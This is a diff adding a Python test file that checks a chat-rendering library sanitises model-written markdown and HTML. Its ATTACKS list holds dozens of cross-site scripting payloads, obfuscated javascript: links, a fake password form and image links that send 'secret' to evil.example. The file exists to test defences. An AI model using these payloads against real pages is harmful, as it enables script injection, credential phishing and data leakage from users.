@@ -1,0 +1,220 @@
+"""Whatever a model writes, a block holds only what the page means it to hold, and cannot leave its place."""
+
+import pytest
+from hypothesis import given, settings
+
+from conversations.rendering.cleaning import clean
+from conversations.rendering.markdown import blocks
+from conversations.rendering.plain import plain
+from conversations.rendering.tree import from_text, tree
+from tests.rendering.document import Document
+from tests.rendering.test_stream import markdown
+
+TAGS = {
+    *(
+        "p",
+        "h3",
+        "h4",
+        "h5",
+        "h6",
+        "ul",
+        "ol",
+        "li",
+        "blockquote",
+        "hr",
+        "br",
+        "pre",
+        "code",
+        "div",
+        "button",
+        "input",
+    ),
+    *(
+        "table",
+        "thead",
+        "tbody",
+        "tr",
+        "th",
+        "td",
+        "a",
+        "b",
+        "del",
+        "em",
+        "i",
+        "ins",
+        "kbd",
+        "mark",
+        "s",
+        "strong",
+    ),
+    *("sub", "sup", "u"),
+}
+ATTRIBUTES = {
+    *(
+        "href",
+        "title",
+        "rel",
+        "target",
+        "class",
+        "data-copy",
+        "data-language",
+        "data-tokens",
+        "type",
+        "disabled",
+    ),
+    *("checked", "aria-label", "role", "tabindex", "start"),
+}
+CLASSES = {"code", "copy", "table", None}
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<script src=//evil.example/x.js>",
+    "text <script>alert(1)</script> text",
+    "<img src=x onerror=alert(1)>",
+    "text <img src=x onerror=alert(1)> text",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<b onmouseover=alert(1)>x</b>",
+    "a <b onmouseover=alert(1)>x</b>",
+    "a <a href='javascript:alert(1)'>x</a>",
+    "<style>body{display:none}</style>",
+    "a <p style='position:fixed;inset:0'>x</p>",
+    "<iframe src=https://evil.example></iframe>",
+    "<object data=x></object><embed src=x>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<textarea>",
+    "<plaintext>",
+    "<xmp>",
+    "<title>",
+    "<!-- ",
+    "<![CDATA[",
+    "<?php",
+    "</div></div></article></main></body>",
+    "a </div></div></p></article>",
+    "</code></pre></div><script>alert(1)</script>",
+    "```\n</code></pre></div><script>alert(1)</script>\n```",
+    '```x"><script>alert(1)</script>\ncode\n```',
+    '```" onclick="alert(1)\ncode\n```',
+    "`</code><script>alert(1)</script>`",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java&#x09;script:alert(1))",
+    "[x](<java\tscript:alert(1)>)",
+    "[x](&#106;avascript&colon;alert(1))",
+    "[x](&#1;javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](//evil.example)",
+    "[x](/admin/logout)",
+    "[x](\\\\evil.example)",
+    "[x](file:///etc/passwd)",
+    "[x](blob:https://evil.example/1)",
+    '[x](https://a.example/"onmouseover="alert(1))',
+    "[x](https://a.example \"' onmouseover='alert(1)\")",
+    "[x](https://a.example '\" onmouseover=\"alert(1)')",
+    "<javascript:alert(1)>",
+    "<data:text/html,x>",
+    "![x](https://evil.example/?q=secret)",
+    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
+    '![x" onerror="alert(1)](https://evil.example/)',
+    "[![x](https://evil.example/?q=secret)](https://a.example)",
+    "[x]\n\n[x]: javascript:alert(1)",
+    "![x]\n\n[x]: https://evil.example/?q=secret",
+    'https://a.example/"onmouseover="alert(1)',
+    "https://a.example/<script>alert(1)</script>",
+    "# <img src=x onerror=alert(1)>",
+    "| <script> | b |\n|---|---|\n| </table><script>alert(1)</script> | <td onclick=x> |",
+    "a <table><tr><td> b",
+    "- <div>\n- </ul></li>\n",
+    "> </blockquote><script>alert(1)</script>",
+    "<b><i><u>never closed",
+    "a <b><i><u>never closed",
+    "a <kbd>b\n\n</kbd> c",
+    '# x {#id .class onclick="alert(1)"}',
+    "\0<script\0>alert(1)</script>",
+    "＜script＞alert(1)＜/script＞",
+]
+
+
+def assert_harmless(html: str) -> None:
+    document = Document(html)
+    assert document.balanced
+    assert document.tags <= TAGS
+    assert {name for _, attributes in document.elements for name in attributes} <= ATTRIBUTES
+    for tag, attributes in document.elements:
+        if tag == "a":
+            assert_harmless_link(attributes)
+        elif tag == "input":
+            assert (attributes["type"], "disabled" in attributes) == ("checkbox", True)
+        elif tag != "table":
+            assert attributes.get("class") in CLASSES
+
+
+def assert_harmless_link(attributes: dict[str, str | None]) -> None:
+    assert (attributes.get("href") or "").lower().startswith(("http://", "https://", "mailto:"))
+    assert attributes["rel"] == "noopener noreferrer nofollow"
+    assert attributes["target"] == "_blank"
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_an_attack_comes_to_nothing(attack: str) -> None:
+    for html in blocks(attack):
+        assert_harmless(html)
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_an_attack_does_not_reach_the_block_after_it(attack: str) -> None:
+    after = blocks(f"{attack}\n```\n\n" if attack.startswith("```") else f"{attack}\n\n")
+    assert all(Document(html).balanced for html in after)
+
+
+@settings(max_examples=300, deadline=None)
+@given(markdown)
+def test_no_markdown_writes_more_than_the_page_means_it_to(text: str) -> None:
+    for html in blocks(text):
+        assert_harmless(html)
+
+
+@given(markdown)
+def test_cleaning_again_changes_nothing(text: str) -> None:
+    for html in blocks(text):
+        assert clean(html) == html
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_an_attack_in_a_result_is_only_text(attack: str) -> None:
+    assert Document(plain(attack)).tags <= {"pre", "span"}
+    shown = Document(tree({attack: [attack, {"key": attack}]}))
+    assert shown.balanced
+    assert shown.tags <= {"div", "details", "summary", "ul", "li", "span", "pre"}
+    assert from_text(attack) == plain(attack)
+
+
+@pytest.mark.parametrize(
+    "attack", ["<div>hidden?</div>", "<!-- hidden? -->", "a <span hidden>hidden?</span>"]
+)
+def test_raw_html_is_shown_as_it_was_written(attack: str) -> None:
+    [html] = blocks(attack)
+    assert attack in Document(html).text
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<img src=https://evil.example/x>",
+        "<svg onload=alert(1)>",
+        "<p onclick=x>",
+        "<p id=x style=y class=z>",
+    ],
+)
+def test_cleaning_alone_would_stop_what_the_writer_let_through(html: str) -> None:
+    assert not {"img", "svg"} & Document(clean(html)).tags
+    assert all(attributes == {} for _, attributes in Document(clean(html)).elements)
